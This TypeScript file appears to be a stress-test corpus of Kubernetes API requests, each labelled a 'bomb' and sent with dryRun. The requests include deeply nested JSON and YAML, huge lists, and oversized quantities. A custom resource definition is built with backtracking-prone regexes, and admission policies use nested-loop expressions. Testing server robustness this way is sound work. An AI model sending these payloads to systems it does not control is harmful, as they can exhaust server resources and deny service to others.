/** A small request that might be much work. */
export interface Bomb {
  name: string;
  method: string;
  path: string;
  type?: string;
  body: string;
}

const v1 = "/api/v1/namespaces/default";
const dry = "?dryRun=All";
const customs = "/apis/bombs.example.com/v1/namespaces/default/bombs";
const json = (value: object) => JSON.stringify(value);
const times = <T>(count: number, make: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, index) => make(index));
const members = (count: number, value: string) => times(count, (index) => `"k${index}":${value}`).join();
const pod = (spec: object) =>
  json({ metadata: { name: "bomb" }, spec: { containers: [{ name: "a", image: "x" }], ...spec } });
const requests = (cpu: string) => pod({ containers: [{ name: "a", image: "x", resources: { requests: { cpu } } }] });
const custom = (spec: object) =>
  json({ apiVersion: "bombs.example.com/v1", kind: "Bomb", metadata: { name: "bomb" }, spec });

/** The definition of a kind whose schema asks much of whoever checks it. */
export const bombDefinition = {
  metadata: { name: "bombs.bombs.example.com" },
  spec: {
    group: "bombs.example.com",
    scope: "Namespaced",
    names: { plural: "bombs", kind: "Bomb" },
    versions: [
      {
        name: "v1",
        served: true,
        storage: true,
        schema: {
          openAPIV3Schema: {
            type: "object",
            properties: {
              spec: {
                type: "object",
                properties: {
                  text: { type: "string", pattern: "^(a+)+$" },
                  alternatives: { type: "string", pattern: "^(a|a|aa)*b$" },
                  counted: { type: "string", pattern: "^((a{0,20}){0,20})b$" },
                  set: { type: "array", "x-kubernetes-list-type": "set", items: { type: "string" } },
                  map: {
                    type: "array",
                    "x-kubernetes-list-type": "map",
                    "x-kubernetes-list-map-keys": ["key"],
                    items: { type: "object", required: ["key"], properties: { key: { type: "string" } } },
                  },
                  numbers: {
                    type: "array",
                    maxItems: 300,
                    items: { type: "integer" },
                    "x-kubernetes-validations": [{ rule: "self.all(x, self.exists(y, y == x + 1) || true)" }],
                  },
                  free: { type: "object", "x-kubernetes-preserve-unknown-fields": true },
                  time: { type: "string", format: "date-time" },
                  list: {
                    type: "array",
                    items: { type: "object", properties: { a: { type: "integer", default: 1 } } },
                  },
                },
              },
            },
          },
        },
      },
    ],
  },
};

const texts: Bomb[] = [
  { name: "brackets", method: "POST", path: `${v1}/configmaps${dry}`, body: "[".repeat(3_000_000) },
  { name: "objects", method: "POST", path: `${v1}/configmaps${dry}`, body: '{"a":'.repeat(500_000) },
  {
    name: "keys",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: `{"metadata":{"name":"bomb"},"data":{${members(150_000, '""')}}}`,
  },
  {
    name: "wrong keys",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: `{"metadata":{"name":"bomb"},"data":{${members(150_000, '""').replaceAll('"k', '"/')}}}`,
  },
  {
    name: "unknown fields",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: `{"metadata":{"name":"bomb"},${members(200_000, "1")}}`,
  },
  {
    name: "repeated keys",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: `{"metadata":{"name":"bomb"},${'"a":1,'.repeat(400_000)}"b":1}`,
  },
  {
    name: "labels",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: `{"metadata":{"name":"bomb","labels":{${members(100_000, '"/"')}}}}`,
  },
  {
    name: "a name",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: json({ metadata: { name: "a-".repeat(1_400_000) } }),
  },
  {
    name: "owners",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: json({
      metadata: {
        name: "bomb",
        ownerReferences: times(20_000, (uid) => ({
          apiVersion: "v1",
          kind: "Pod",
          name: "a",
          uid: `${uid}`,
          controller: true,
        })),
      },
    }),
  },
  {
    name: "finalizers",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: json({ metadata: { name: "bomb", finalizers: times(100_000, (index) => `a.b/${index}`) } }),
  },
  {
    name: "base64",
    method: "POST",
    path: `${v1}/secrets${dry}`,
    body: json({ metadata: { name: "bomb" }, data: { a: "YWFh\n".repeat(300_000) } }),
  },
  {
    name: "half characters",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: `{"metadata":{"name":"bomb"},"data":{"a":"${"\\ud800".repeat(100_000)}"}}`,
  },
];

const yamls: Bomb[] = [
  "[".repeat(200_000),
  "- ".repeat(200_000),
  `a: ${"x ".repeat(1_000_000)}`,
  times(100_000, (index) => `k${index}: v`).join("\n"),
  `a: &a [1]\n${times(50_000, (index) => `k${index}: *a`).join("\n")}`,
  "a: !!str ".repeat(100_000),
  `a: "${"\\x41".repeat(300_000)}"`,
  "{a: ".repeat(100_000),
  "? ".repeat(100_000),
  "---\n".repeat(200_000),
  `#${" ".repeat(2_000_000)}`,
  `%TAG ${"! ".repeat(500_000)}`,
].map((body, index) => ({
  name: `yaml ${index}`,
  method: "POST",
  path: `${v1}/configmaps${dry}`,
  type: "application/yaml",
  body,
}));

const values: Bomb[] = [
  { name: "digits of a quantity", method: "POST", path: `${v1}/pods${dry}`, body: requests("9".repeat(1_000_000)) },
  {
    name: "fraction of a quantity",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: requests(`0.${"1".repeat(1_000_000)}`),
  },
  { name: "exponent of a quantity", method: "POST", path: `${v1}/pods${dry}`, body: requests("1e999999999") },
  {
    name: "many long quantities",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({
      containers: times(1000, (index) => ({
        name: `c${index}`,
        image: "x",
        resources: { requests: { cpu: "9".repeat(2000) } },
      })),
    }),
  },
  {
    name: "containers",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({ containers: times(20_000, (index) => ({ name: `c${index}`, image: "x" })) }),
  },
  {
    name: "same containers",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({ containers: times(20_000, () => ({ name: "a", image: "x" })) }),
  },
  {
    name: "volumes and mounts",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({
      volumes: times(20_000, (index) => ({ name: `v${index}`, emptyDir: {} })),
      containers: [
        {
          name: "a",
          image: "x",
          volumeMounts: times(20_000, (index) => ({ name: `v${index}`, mountPath: `/${index}` })),
        },
      ],
    }),
  },
  {
    name: "container ports",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({
      containers: [
        { name: "a", image: "x", ports: times(40_000, (index) => ({ containerPort: 1 + index, hostPort: 1 + index })) },
      ],
    }),
  },
  {
    name: "environment",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({
      containers: [{ name: "a", image: "x", env: times(60_000, (index) => ({ name: `E${index}`, value: "$(E)" })) }],
    }),
  },
  {
    name: "tolerations",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({ tolerations: times(40_000, (index) => ({ key: `k${index}`, operator: "Exists" })) }),
  },
  {
    name: "spread constraints",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({
      topologySpreadConstraints: times(10_000, (index) => ({
        maxSkew: 1,
        topologyKey: `k${index}`,
        whenUnsatisfiable: "DoNotSchedule",
      })),
    }),
  },
  {
    name: "host aliases",
    method: "POST",
    path: `${v1}/pods${dry}`,
    body: pod({ hostAliases: times(40_000, () => ({ ip: "::".repeat(10), hostnames: ["a"] })) }),
  },
  {
    name: "service ports",
    method: "POST",
    path: `${v1}/services${dry}`,
    body: json({
      metadata: { name: "bomb" },
      spec: { ports: times(30_000, (index) => ({ name: `p${index}`, port: 1 + index })) },
    }),
  },
  {
    name: "service addresses",
    method: "POST",
    path: `${v1}/services${dry}`,
    body: json({
      metadata: { name: "bomb" },
      spec: { ports: [{ port: 1 }], externalIPs: times(50_000, () => "1.2.3.4") },
    }),
  },
  {
    name: "an address",
    method: "POST",
    path: `${v1}/services${dry}`,
    body: json({ metadata: { name: "bomb" }, spec: { ports: [{ port: 1 }], clusterIP: ":".repeat(2_000_000) } }),
  },
  {
    name: "endpoints",
    method: "POST",
    path: `${v1}/endpoints${dry}`,
    body: json({
      metadata: { name: "bomb" },
      subsets: times(5_000, (index) => ({ addresses: [{ ip: `10.0.${index % 250}.1` }], ports: [{ port: 1 }] })),
    }),
  },
  {
    name: "a schedule",
    method: "POST",
    path: `/apis/batch/v1/namespaces/default/cronjobs${dry}`,
    body: json({
      metadata: { name: "bomb" },
      spec: { schedule: `${"*/1,".repeat(500_000)}1 * * * *`, jobTemplate: {} },
    }),
  },
  {
    name: "a time zone",
    method: "POST",
    path: `/apis/batch/v1/namespaces/default/cronjobs${dry}`,
    body: json({
      metadata: { name: "bomb" },
      spec: { schedule: "* * * * *", timeZone: "a/".repeat(1_000_000), jobTemplate: {} },
    }),
  },
  {
    name: "a selector",
    method: "POST",
    path: `/apis/apps/v1/namespaces/default/deployments${dry}`,
    body: json({
      metadata: { name: "bomb" },
      spec: {
        selector: { matchExpressions: times(20_000, (index) => ({ key: `k${index}`, operator: "In", values: ["a"] })) },
        template: { metadata: { labels: { a: "b" } }, spec: { containers: [{ name: "a", image: "x" }] } },
      },
    }),
  },
  {
    name: "rules",
    method: "POST",
    path: `/apis/rbac.authorization.k8s.io/v1/namespaces/default/roles${dry}`,
    body: json({
      metadata: { name: "bomb" },
      rules: times(30_000, () => ({ apiGroups: [""], resources: ["pods"], verbs: ["get"] })),
    }),
  },
  {
    name: "a network policy",
    method: "POST",
    path: `/apis/networking.k8s.io/v1/namespaces/default/networkpolicies${dry}`,
    body: json({
      metadata: { name: "bomb" },
      spec: {
        podSelector: {},
        ingress: [
          { from: times(20_000, () => ({ ipBlock: { cidr: "10.0.0.0/8", except: ["10.1.0.0/16", "10.1.0.0/16"] } })) },
        ],
      },
    }),
  },
  {
    name: "owners of fields",
    method: "POST",
    path: `${v1}/configmaps${dry}`,
    body: json({
      metadata: {
        name: "bomb",
        managedFields: times(20_000, (index) => ({
          manager: `m${index}`,
          operation: "Update",
          apiVersion: "v1",
          fieldsType: "FieldsV1",
          fieldsV1: { "f:data": { [`f:k${index}`]: {} } },
        })),
      },
      data: { a: "" },
    }),
  },
];

const customObjects: Bomb[] = [
  { name: "a pattern", method: "POST", path: `${customs}${dry}`, body: custom({ text: `${"a".repeat(1_000_000)}b` }) },
  {
    name: "a pattern of alternatives",
    method: "POST",
    path: `${customs}${dry}`,
    body: custom({ alternatives: "a".repeat(1_000_000) }),
  },
  {
    name: "a pattern that counts",
    method: "POST",
    path: `${customs}${dry}`,
    body: custom({ counted: "a".repeat(100_000) }),
  },
  {
    name: "a set",
    method: "POST",
    path: `${customs}${dry}`,
    body: custom({ set: times(200_000, (index) => `${index}`) }),
  },
  {
    name: "a map",
    method: "POST",
    path: `${customs}${dry}`,
    body: custom({ map: times(100_000, (key) => ({ key: `${key}` })) }),
  },
  {
    name: "a rule with two loops",
    method: "POST",
    path: `${customs}${dry}`,
    body: custom({ numbers: times(300, (index) => index) }),
  },
  {
    name: "free form",
    method: "POST",
    path: `${customs}${dry}`,
    body: `{"apiVersion":"bombs.example.com/v1","kind":"Bomb","metadata":{"name":"bomb"},"spec":{"free":{${members(150_000, '{"a":[]}')}}}}`,
  },
  { name: "a time", method: "POST", path: `${customs}${dry}`, body: custom({ time: "2".repeat(2_000_000) }) },
  {
    name: "defaults",
    method: "POST",
    path: `${customs}${dry}`,
    body: `{"apiVersion":"bombs.example.com/v1","kind":"Bomb","metadata":{"name":"bomb"},"spec":{"list":[${"{},".repeat(500_000)}{}]}}`,
  },
];

const target = `${v1}/configmaps/target${dry}`;
const deployment = "/apis/apps/v1/namespaces/default/deployments/target?dryRun=All";
const [jsonPatch, mergePatch] = ["application/json-patch+json", "application/merge-patch+json"];
const [strategic, apply] = ["application/strategic-merge-patch+json", "application/apply-patch+yaml"];
const ofContainers = (members: object) => json({ spec: { template: { spec: members } } });

const patches: Bomb[] = [
  {
    name: "operations",
    method: "PATCH",
    path: target,
    type: jsonPatch,
    body: json(times(10_000, (index) => ({ op: "add", path: `/data/k${index}`, value: "x".repeat(100) }))),
  },
  {
    name: "copies",
    method: "PATCH",
    path: target,
    type: jsonPatch,
    body: json(times(10_000, (index) => ({ op: "copy", from: "/metadata", path: `/data/k${index}` }))),
  },
  {
    name: "copies of everything",
    method: "PATCH",
    path: target,
    type: jsonPatch,
    body: json(times(10_000, () => ({ op: "copy", from: "", path: "/data/a" }))),
  },
  {
    name: "tests",
    method: "PATCH",
    path: target,
    type: jsonPatch,
    body: json(times(10_000, () => ({ op: "test", path: "", value: {} }))),
  },
  {
    name: "a path",
    method: "PATCH",
    path: target,
    type: jsonPatch,
    body: json([{ op: "add", path: "/a".repeat(1_000_000), value: 1 }]),
  },
  {
    name: "insertions",
    method: "PATCH",
    path: deployment,
    type: jsonPatch,
    body: json(
      times(10_000, (index) => ({
        op: "add",
        path: "/spec/template/spec/containers/0",
        value: { name: `c${index}`, image: "x" },
      })),
    ),
  },
  { name: "nulls", method: "PATCH", path: target, type: mergePatch, body: `{"data":{${members(200_000, "null")}}}` },
  {
    name: "merged containers",
    method: "PATCH",
    path: deployment,
    type: strategic,
    body: ofContainers({ containers: times(20_000, (index) => ({ name: `c${index}`, image: "x" })) }),
  },
  {
    name: "deleted containers",
    method: "PATCH",
    path: deployment,
    type: strategic,
    body: ofContainers({ containers: times(20_000, (index) => ({ name: `c${index}`, $patch: "delete" })) }),
  },
  {
    name: "the order of containers",
    method: "PATCH",
    path: deployment,
    type: strategic,
    body: ofContainers({
      "$setElementOrder/containers": times(20_000, (index) => ({ name: `c${index}` })),
      containers: times(20_000, (index) => ({ name: `c${19_999 - index}`, image: "x" })),
    }),
  },
  {
    name: "applied containers",
    method: "PATCH",
    path: `${deployment}&fieldManager=a&force=true`,
    type: apply,
    body: json({
      apiVersion: "apps/v1",
      kind: "Deployment",
      metadata: { name: "target" },
      spec: {
        selector: { matchLabels: { a: "b" } },
        template: {
          metadata: { labels: { a: "b" } },
          spec: { containers: times(10_000, (index) => ({ name: `c${index}`, image: "x" })) },
        },
      },
    }),
  },
  {
    name: "applied keys",
    method: "PATCH",
    path: `${target}&fieldManager=a`,
    type: apply,
    body: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"target"},"data":{${members(80_000, '""')}}}`,
  },
];

const deep = `${'{"a":'.repeat(400_000)}1${"}".repeat(400_000)}`;
const depths: Bomb[] = [
  {
    name: "depth",
    method: "PUT",
    path: target,
    body: `{"metadata":{"name":"target"},"data":${deep}}`,
  },
  {
    name: "depth of an unknown field",
    method: "PUT",
    path: target,
    body: `{"metadata":{"name":"target"},"unknown":${deep}}`,
  },
  {
    name: "depth of a custom object",
    method: "POST",
    path: `${customs}${dry}`,
    body: `{"apiVersion":"bombs.example.com/v1","kind":"Bomb","metadata":{"name":"bomb"},"spec":{"free":${deep}}}`,
  },
  { name: "depth of a merge patch", method: "PATCH", path: target, type: mergePatch, body: `{"data":${deep}}` },
  { name: "depth of a strategic patch", method: "PATCH", path: target, type: strategic, body: `{"data":${deep}}` },
  {
    name: "depth of a JSON patch",
    method: "PATCH",
    path: target,
    type: jsonPatch,
    body: `[{"op":"add","path":"/data/b","value":${deep}}]`,
  },
  {
    name: "depth of what is applied",
    method: "PATCH",
    path: `${target}&fieldManager=a`,
    type: apply,
    body: `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"target"},"data":${deep}}`,
  },
];

const nestedRule = "self.all(a, self.all(b, self.all(c, self.all(d, a + b + c + d > 0))))";
const policy = (expressions: string[]) =>
  json({
    metadata: { name: "bomb" },
    spec: {
      matchConstraints: {
        resourceRules: [{ apiGroups: [""], apiVersions: ["v1"], resources: ["pods"], operations: ["*"] }],
      },
      validations: expressions.map((expression) => ({ expression })),
    },
  });
const policies = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies?dryRun=All";
const definitions = "/apis/apiextensions.k8s.io/v1/customresourcedefinitions?dryRun=All";
const withSchema = (schema: object) => {
  const [version] = bombDefinition.spec.versions;
  const versions = [{ ...version, schema: { openAPIV3Schema: { type: "object", properties: { spec: schema } } } }];
  const names = { plural: "others", kind: "Other" };
  return json({ metadata: { name: "others.bombs.example.com" }, spec: { ...bombDefinition.spec, names, versions } });
};

const expressions: Bomb[] = [
  {
    name: "expressions",
    method: "POST",
    path: policies,
    body: policy(times(2000, () => "object.metadata.name.startsWith('a')")),
  },
  {
    name: "a long expression",
    method: "POST",
    path: policies,
    body: policy([times(12_000, () => "true").join(" && ")]),
  },
  {
    name: "a nested expression",
    method: "POST",
    path: policies,
    body: policy([`${"(".repeat(50_000)}true${")".repeat(50_000)}`]),
  },
  { name: "negations", method: "POST", path: policies, body: policy([`${"!".repeat(100_000)}true`]) },
  {
    name: "a list in an expression",
    method: "POST",
    path: policies,
    body: policy([`[${times(49_000, () => "1").join()}].size() > 0`]),
  },
  {
    name: "a regular expression",
    method: "POST",
    path: policies,
    body: policy([`object.metadata.name.matches('${"(a+)+".repeat(2000)}$')`]),
  },
  {
    name: "four loops",
    method: "POST",
    path: definitions,
    body: withSchema({ type: "array", items: { type: "integer" }, "x-kubernetes-validations": [{ rule: nestedRule }] }),
  },
  {
    name: "rules of a schema",
    method: "POST",
    path: definitions,
    body: withSchema({
      type: "object",
      properties: Object.fromEntries(
        times(500, (index) => [
          `p${index}`,
          { type: "string", "x-kubernetes-validations": [{ rule: "self.size() > 0" }] },
        ]),
      ),
    }),
  },
  {
    name: "properties of a schema",
    method: "POST",
    path: definitions,
    body: withSchema({
      type: "object",
      properties: Object.fromEntries(times(30_000, (index) => [`p${index}`, { type: "string" }])),
    }),
  },
  {
    name: "patterns of a schema",
    method: "POST",
    path: definitions,
    body: withSchema({
      type: "object",
      properties: Object.fromEntries(
        times(500, (index) => [`p${index}`, { type: "string", pattern: "((a{1,10}){1,10}){1,10}" }]),
      ),
    }),
  },
];

/** Small requests that might be much work, each for another part of the server. */
export const bombs: readonly Bomb[] = [
  ...texts,
  ...yamls,
  ...values,
  ...customObjects,
  ...patches,
  ...depths,
  ...expressions,
];
